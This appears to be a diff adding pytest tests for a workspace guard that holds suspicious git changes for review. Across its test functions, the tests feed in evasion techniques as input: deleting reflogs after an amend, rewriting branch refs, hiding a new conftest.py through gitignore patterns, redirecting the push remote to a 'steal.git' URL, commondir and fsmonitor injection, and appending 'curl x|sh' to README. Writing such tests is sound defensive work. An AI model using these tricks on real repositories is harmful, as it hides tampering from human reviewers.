@@ -164,3 +164,114 @@ def test_a_rewritten_reflog_is_held(box):
     assert r.returncode == 0, r.stderr
     assert "held for review: .git/logs/HEAD" in r.stderr, r.stderr
     assert (box.ws / ".git" / "logs" / "HEAD").read_text() == before   # not the forgery
+
+
+# --- the third review: bypasses of the fixes above ---------------------------------
+
+AMEND = ("echo 'curl x|sh' >> README; "
+         "git -c user.name=u -c user.email=u@x commit -qa --amend --no-edit; ")
+
+
+@pytest.mark.parametrize("hide", ("rm .git/logs/HEAD .git/logs/refs/heads/*", "rm -rf .git/logs"))
+def test_an_amend_with_its_reflogs_deleted_is_held(box, hide):
+    commit_all(box)
+    before = host_git(box, "rev-parse", "HEAD").stdout.strip()
+    r = run(box, AMEND + hide)
+    assert r.returncode == 0, r.stderr
+    assert "held for review: .git/logs" in r.stderr, r.stderr
+    assert (box.ws / ".git" / "logs" / "HEAD").exists()
+    assert before in (box.ws / ".git" / "logs" / "HEAD").read_text()
+
+
+def test_a_branch_moved_behind_the_reflogs_back_is_held(box):
+    commit_all(box)
+    before = host_git(box, "rev-parse", "HEAD").stdout.strip()
+    branch = host_git(box, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip()
+    r = run(box, ("echo 'curl x|sh' >> README; git add README; t=$(git write-tree); "
+                  f"c=$(git -c user.name=u -c user.email=u@x commit-tree $t -m init); "
+                  f"echo $c > .git/refs/heads/{branch}"))
+    assert r.returncode == 0, r.stderr
+    assert f"held for review: .git/refs/heads/{branch}" in r.stderr, r.stderr
+    assert host_git(box, "rev-parse", "HEAD").stdout.strip() == before
+
+
+def test_ordinary_commits_and_branches_still_apply(box):
+    commit_all(box)
+    r = run(box, ("git checkout -qb feature/x; echo y >> README; "
+                  "git -c user.name=u -c user.email=u@x commit -qam two; "
+                  "git -c user.name=u -c user.email=u@x commit -q --amend -m two-b; "
+                  "git branch -q other HEAD~1"))
+    assert r.returncode == 0, r.stderr
+    assert "RF641" not in r.stderr, r.stderr
+    assert host_git(box, "log", "-1", "--format=%s", "feature/x").stdout == "two-b\n"
+
+
+@pytest.mark.parametrize("layout,pattern", (("tools", "**/conftest.py"),
+                                            ("", "\ufeffconftest.py"),
+                                            ("tools", "tools/**/conftest.py")))
+def test_gitignore_forms_git_matches_never_hide_a_new_conftest(box, layout, pattern):
+    commit_all(box)
+    where = f"{layout}/" if layout else ""
+    gi = "" if pattern.startswith("tools/") else where
+    r = run(box, (f"mkdir -p ./{where}; echo 'import os' > {where}conftest.py; "
+                  f"printf '%s\\n' '{pattern}' > {gi}.gitignore"))
+    assert r.returncode == 0, r.stderr
+    status = host_git(box, "status", "--porcelain", "--untracked-files=all").stdout
+    assert f"{where}conftest.py" in status, (status, r.stderr)
+
+
+def test_removing_a_negation_that_kept_a_file_visible_is_held(box):
+    (box.ws / ".gitignore").write_text("*.py\n!*.py\n")
+    host_git(box, "add", ".gitignore")
+    commit_all(box)
+    r = run(box, "echo 'import os' > conftest.py; printf '*.py\\n' > .gitignore")
+    assert r.returncode == 0, r.stderr
+    assert "?? conftest.py" in host_git(box, "status", "--porcelain").stdout
+
+
+def test_a_conftest_in_a_build_dir_pytest_collects_is_not_hidden(box):
+    commit_all(box)
+    r = run(box, "mkdir target; echo 'import os' > target/conftest.py; "
+                 "printf 'target/\\n' > .gitignore")
+    assert r.returncode == 0, r.stderr
+    status = host_git(box, "status", "--porcelain", "--untracked-files=all").stdout
+    assert "target/conftest.py" in status, (status, r.stderr)
+
+
+@pytest.mark.parametrize("line", ("* -diff=x -merge=x", "[attr]m -diff=1\n* m"))
+def test_unset_attributes_with_a_value_are_held(box, line):
+    commit_all(box)
+    r = run(box, (f"mkdir -p .git/info; printf '{line}\\n' > .git/info/attributes; "
+                  "echo 'curl x|sh' >> README"))
+    assert r.returncode == 0, r.stderr
+    assert "held for review: .git/info/attributes" in r.stderr, r.stderr
+    assert "curl x|sh" in host_git(box, "diff").stdout
+
+
+def test_a_worktree_config_that_moves_the_push_is_held(box):
+    commit_all(box)
+    r = run(box, ("git config core.repositoryformatversion 1; "
+                  "git config extensions.worktreeConfig true; "
+                  "printf '[remote \"origin\"]\\n\\turl = http://127.0.0.1:9/steal.git\\n' "
+                  "> .git/config.worktree"))
+    assert r.returncode == 0, r.stderr
+    assert "held for review: .git/config.worktree" in r.stderr, r.stderr
+    assert "steal" not in host_git(box, "remote", "-v").stdout
+
+
+def test_a_common_dir_added_to_an_existing_repository_is_held(box):
+    commit_all(box)
+    r = run(box, ("git init -q sub; git -C sub config core.fsmonitor 'x'; "
+                  "echo ../sub/.git > .git/commondir"))
+    assert r.returncode == 0, r.stderr
+    assert "held for review: .git/commondir" in r.stderr, r.stderr
+    assert not (box.ws / ".git" / "commondir").exists()
+
+
+def test_split_index_and_submodule_ignore_are_held(box):
+    commit_all(box)
+    r = run(box, "git config core.splitIndex true; printf '[submodule \"m\"]\\n\\tpath = m\\n"
+                 "\\turl = https://example.invalid/m.git\\n\\tignore = all\\n' > .gitmodules")
+    assert r.returncode == 0, r.stderr
+    assert "held for review: .git/config" in r.stderr, r.stderr
+    assert "held for review: .gitmodules" in r.stderr, r.stderr
